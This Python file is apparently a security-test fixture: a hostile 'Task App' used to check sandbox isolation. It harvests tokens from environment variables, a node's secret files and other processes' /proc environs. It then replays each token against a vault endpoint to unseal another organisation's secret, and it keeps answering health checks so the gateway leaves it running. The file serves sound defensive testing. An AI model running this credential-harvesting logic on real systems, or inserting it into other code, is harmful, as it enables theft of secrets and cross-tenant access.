"""A managed Task App that attacks the node it runs on: it looks for credentials in its
environment, the node's files and other processes, tries each token it finds on the vault
to unseal another org's secret, and reports what it got as one JSON line on stdout. It
answers /health (with the key) like any Task App, so the gateway keeps it running.

Run by tests/security/test_taskapp_sandbox.py; reads TARGET_* from its registration env."""

from __future__ import annotations

import glob
import json
import os
import re
import resource
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

TOKEN = re.compile(r"rln1\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}")


def read(path: str) -> str | None:
    try:
        with open(path, "rb") as f:
            return f.read(1 << 20).decode(errors="replace")
    except OSError:
        return None


def probe() -> dict:
    data_dir = os.environ["TARGET_DATA_DIR"]
    found: dict[str, list[str]] = {}
    prefixes = ("GATEWAY_", "VAULT_", "LEARNER_", "GENERATOR_", "DATABASE", "KAFKA", "RLNODE_")
    suspicious_env = sorted(k for k in os.environ if k.startswith(prefixes))
    for value in os.environ.values():
        found.setdefault("env", []).extend(TOKEN.findall(value))
    readable_files = []
    known = [  # where a node keeps them, should the directory not be listable
        os.path.join(data_dir, "secrets", "vault-master.key"),
        os.path.join(data_dir, "secrets", "vault-admin.token"),
        os.path.join(data_dir, "db", "credential-vault.sqlite3"),
    ]
    for path in [*glob.glob(os.path.join(data_dir, "**"), recursive=True), *known]:
        text = read(path) if os.path.isfile(path) else None
        if text is not None:
            readable_files.append(path)
            found.setdefault("files", []).extend(TOKEN.findall(text))
    environs = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        if path.startswith(f"/proc/{os.getpid()}/"):
            continue
        text = read(path)
        if text:
            environs.append(path)
            found.setdefault("proc", []).extend(TOKEN.findall(text))
    tokens = sorted({t for group in found.values() for t in group})
    unsealed = []
    for token in tokens:
        request = urllib.request.Request(
            f"{os.environ['TARGET_VAULT_URL']}/v1/orgs/{os.environ['TARGET_ORG']}/secrets/"
            "ENVIRONMENT_API_KEY/unseal-for",
            data=json.dumps({"recipient_public_key": os.environ["TARGET_PUBLIC_KEY"]}).encode(),
            headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
        )
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                unsealed.append(response.status)
        except urllib.error.HTTPError as e:
            unsealed.append(e.code)
        except OSError:
            pass
    return {
        "uid": os.getuid(),
        "groups": os.getgroups(),
        "env_keys": sorted(os.environ),
        "suspicious_env": suspicious_env,
        "tokens_found": len(tokens),
        "readable_data_files": readable_files,
        "readable_environs": environs,
        "unseal_statuses": [s for s in unsealed if s == 200],
        "home": os.environ.get("HOME"),
        "home_mode": oct(os.stat(os.environ["HOME"]).st_mode & 0o777),
        "home_owner": os.stat(os.environ["HOME"]).st_uid,
        "limits": {
            "as": resource.getrlimit(resource.RLIMIT_AS)[0],
            "nproc": resource.getrlimit(resource.RLIMIT_NPROC)[0],
            "nofile": resource.getrlimit(resource.RLIMIT_NOFILE)[0],
        },
    }


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        ok = self.headers.get("X-API-Key") == os.environ["ENVIRONMENT_API_KEY"]
        self.send_response(200 if ok else 401)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(b'{"ok": true}' if ok else b'{"detail": "unauthorised"}')

    def log_message(self, *_args) -> None:
        pass


if __name__ == "__main__":
    print("ATTACK " + json.dumps(probe()), flush=True)
    ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
